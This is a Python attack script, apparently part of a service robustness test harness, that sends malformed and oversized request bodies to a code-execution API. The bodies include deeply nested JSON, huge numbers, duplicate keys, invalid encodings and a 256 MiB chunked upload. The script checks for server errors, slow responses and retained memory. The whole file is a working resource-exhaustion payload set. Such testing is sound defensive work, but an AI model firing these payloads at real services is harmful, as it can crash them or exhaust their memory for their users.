# attack: serve/bodies-without-end
# oracle: alive
# source: own
# note: bodies that say one length and have another, nest without end, hold numbers without end, and names that are nobody's
import json
import socket

import httpx


def attack(world):
    before = world.memory_bytes()
    reached = []
    alice = httpx.Client(base_url=world.url, headers={"Authorization": f"Bearer {world.alice}"}, timeout=60)
    deep = "[" * 1_000_000
    for path in ("/v1/sessions", f"/v1/sessions/{world.session}/runs", f"/v1/sessions/{world.session}/variables", "/run_code", "/run_jupyter", "/openai/v1/chat/completions", "/v1/streams"):
        for body in (deep, '{"variables": ' + deep, '{"code": "\\ud800"}', '{"variables": {"x": ' + "9" * 3_000_000 + "}}", '{"code": 1e' + "9" * 1000 + "}", "\0" * 1000, '{"a":1' * 100_000,
                     '{"code": "1", "code": "2", "stream": "yes"}', json.dumps({"variables": {f"v{n}": 0 for n in range(200_000)}}), b"\xff\xfe{}", "null", "[]", '"x"', "NaN"):
            answer = alice.request("PUT" if path.endswith("variables") else "POST", path, content=body)
            if answer.status_code >= 500 or answer.elapsed.total_seconds() > 30:
                reached.append((path, str(body)[:30], answer.status_code))
    head = f"PUT /v1/sessions/{world.session}/files/big HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {world.alice}\r\nTransfer-Encoding: chunked\r\n\r\n"
    with socket.create_connection(world.address, timeout=30) as raw:
        raw.sendall(head.encode())
        sent = 0
        try:
            while sent < 256 << 20:
                raw.sendall(b"10000\r\n" + b"x" * 65536 + b"\r\n")
                sent += 65536
            reached.append("256 MiB in chunks were taken")
        except OSError:
            pass
    if world.memory_bytes() - before > 128 << 20:
        reached.append("the memory stays")
    return reached
